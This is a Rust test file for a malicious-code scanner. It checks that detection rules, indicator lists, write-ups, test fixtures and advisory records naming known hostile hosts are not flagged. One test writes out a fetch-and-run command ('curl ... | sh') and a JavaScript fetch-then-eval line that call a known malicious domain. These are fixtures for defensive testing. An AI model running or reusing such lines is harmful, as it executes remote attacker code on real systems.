//! Intelligence names the known and never accuses a reader of it: repositories of rules, lists of indicators, write-ups,
//! a scanner's own fixtures, and this project.

use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use lurescan::finding::Report;
use lurescan::intel::{Intel, Row, What};
use lurescan::signal::Basis;

use crate::case::scan_path;

/// Deciding rows of the built-in table: hosts, addresses, constants, packages.
fn known(what: What, count: usize) -> Vec<Row<'static>> {
    static INTEL: LazyLock<Intel> = LazyLock::new(Intel::load);
    INTEL.rows().iter().filter(|row| row.decides && row.what == what).take(count).collect()
}

fn laid(files: &[(&str, String)]) -> Report {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    for (path, text) in files {
        let path = scratch.path().join(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("written");
        fs::write(path, text).expect("written");
    }
    scan_path(scratch.path())
}

/// Findings from intelligence that block.
fn accusations(report: &Report) -> Vec<String> {
    let weighty = report.findings.iter().filter(|finding| finding.basis == Basis::ExactIntelligence);
    weighty
        .map(|finding| format!("{} {}:{} {}", finding.rule, finding.path, finding.primary.line, finding.message))
        .collect()
}

fn clean(name: &str, report: &Report) {
    assert!(accusations(report).is_empty(), "{name}: {:#?}", accusations(report));
}

#[test]
fn a_repository_of_detection_rules_is_not_accused() {
    let hosts = known(What::Domain, 3);
    let constant = &known(What::Text, 1)[0];
    let strings: String = hosts.iter().enumerate().map(|(n, row)| format!("    $h{n} = \"{}\"\n", row.value)).collect();
    let yara = format!(
        "rule lure {{\n  strings:\n{strings}    $c = \"{}\"\n  condition:\n    any of them\n}}\n",
        constant.value
    );
    let sigma = format!(
        "title: DNS\nlogsource:\n  category: dns\ndetection:\n  selection:\n    query|contains:\n      - '{}'\n      - '{}'\n  condition: selection\n",
        hosts[0].value, hosts[1].value
    );
    let snort = format!("alert tcp any any -> any any (msg:\"c2\"; content:\"{}\"; sid:1;)\n", hosts[2].value);
    let report = laid(&[
        ("yara/lure.yar", yara.clone()),
        ("yara/lure.yara", yara),
        ("sigma/dns.yml", sigma),
        ("suricata/local.rules", snort),
        ("README.md", format!("# Rules\n\nThey find `{}`.\n", hosts[0].value)),
    ]);
    clean("rules", &report);
}

#[test]
fn lists_of_indicators_in_every_form_are_not_accused() {
    let hosts = known(What::Domain, 12);
    let hashes = known(What::Sha256, 3);
    let lines = |between: &str| hosts.iter().map(|row| row.value.to_string()).collect::<Vec<_>>().join(between);
    let attributes: Vec<String> = hosts
        .iter()
        .map(|row| format!("{{\"type\":\"domain\",\"value\":\"{}\",\"to_ids\":true}}", row.value))
        .collect();
    let report = laid(&[
        ("iocs/domains.txt", lines("\n")),
        ("iocs/domains.csv", format!("domain,family\n{},x\n", lines(",x\n"))),
        ("iocs/misp.json", format!("{{\"Event\":{{\"Attribute\":[{}]}}}}", attributes.join(","))),
        ("iocs/hashes.md", format!("| sha256 |\n|---|\n| {} |\n", hashes[0].value)),
        ("hosts", format!("0.0.0.0 {}\n", lines("\n0.0.0.0 "))),
        ("pihole/block.list", lines("\n")),
        ("src/blocklist.py", format!("BLOCKED = [\n    '{}',\n]\n", lines("',\n    '"))),
    ]);
    clean("lists", &report);
}

#[test]
fn a_write_up_with_code_in_it_is_not_accused() {
    let host = &known(What::Domain, 1)[0];
    let package = known(What::Package(lurescan::analyse::dependencies::Ecosystem::Npm), 1)[0].package().0.to_owned();
    let post = format!(
        "# A lure\n\nThe task runs:\n\n```sh\ncurl -s https://{0}/x | sh\n```\n\nand `{package}` does\n\n```js\nfetch('https://{0}/k').then((r) => r.text()).then(eval)\n```\n",
        host.value
    );
    let page = format!("<html><body><pre>fetch('https://{}')</pre></body></html>\n", host.value);
    let report = laid(&[("posts/2026-05-lure.md", post.clone()), ("posts/index.html", page), ("posts/raw.rst", post)]);
    clean("write-up", &report);
}

#[test]
fn a_scanners_own_fixtures_are_not_accused() {
    let hosts = known(What::Domain, 2);
    let package = known(What::Package(lurescan::analyse::dependencies::Ecosystem::Npm), 1)[0].package().0.to_owned();
    let constant = &known(What::Text, 1)[0];
    let report = laid(&[
        (
            "src/scan.js",
            format!(
                "const KNOWN = ['{}', '{}'];\nmodule.exports = (text) => KNOWN.some((host) => text.includes(host));\n",
                hosts[0].value, hosts[1].value
            ),
        ),
        ("scan.sh", format!("#!/bin/sh\ngrep -rn \"{}\" . && echo found\n", hosts[0].value)),
        ("tests/fixtures/attack/package.json", format!("{{\"dependencies\":{{\"{package}\":\"1.0.0\"}}}}")),
        (
            "tests/fixtures/attack/index.js",
            format!("const key = '{}';\nmodule.exports = '{}';\n", constant.value, hosts[0].value),
        ),
        ("tests/scan.test.js", format!("expect(scan('https://{}')).toBe(true);\n", hosts[0].value)),
    ]);
    clean("fixtures", &report);
}

#[test]
fn an_advisory_database_is_not_accused() {
    let package = known(What::Package(lurescan::analyse::dependencies::Ecosystem::Npm), 1)[0].package().0.to_owned();
    let host = &known(What::Domain, 1)[0];
    let record = format!(
        "{{\"id\":\"MAL-2026-1\",\"affected\":[{{\"package\":{{\"ecosystem\":\"npm\",\"name\":\"{package}\"}}}}],\"database_specific\":{{\"iocs\":{{\"domains\":[\"{}\"]}}}}}}",
        host.value
    );
    let report = laid(&[("osv/malicious/npm/x/MAL-2026-1.json", record), ("README.md", "# Advisories\n".to_owned())]);
    clean("advisories", &report);
}

#[test]
fn this_project_is_not_accused_by_its_own_intelligence() {
    let scratch = tempfile::tempdir().expect("a temporary folder");
    for part in ["src", "rules", "intel", "tests", "schema", "benches", "fuzz", ".ci", "integrations"] {
        copy(Path::new(part), &scratch.path().join(part));
    }
    for file in
        ["README.md", "ARCHITECTURE.md", "CONTRIBUTING.md", "CHANGELOG.md", "Cargo.toml", "Cargo.lock", "build.rs"]
    {
        if Path::new(file).is_file() {
            fs::copy(file, scratch.path().join(file)).expect("copied");
        }
    }
    clean("this project", &scan_path(scratch.path()));
}

fn copy(from: &Path, to: &Path) {
    let Ok(entries) = fs::read_dir(from) else { return };
    fs::create_dir_all(to).expect("written");
    for entry in entries.flatten() {
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).expect("copied");
        }
    }
}
